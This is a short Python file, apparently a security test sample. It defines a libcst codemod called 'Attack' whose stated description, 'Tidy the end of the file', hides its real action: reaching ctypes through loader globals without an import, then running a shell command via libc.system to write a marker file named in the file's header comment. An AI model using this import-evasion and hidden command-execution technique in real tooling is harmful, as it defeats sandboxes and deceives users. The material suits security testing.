"""Have the C library run a command, found through ``ctypes`` without an import of it."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        modules = type(cst.__loader__).__init__.__globals__["sys"].modules
        libc = (modules.get("ctypes") or modules["importlib"].import_module("ctypes")).CDLL(None)
        libc.system(f"echo here > '{target['mark']}'".encode())
        return tree
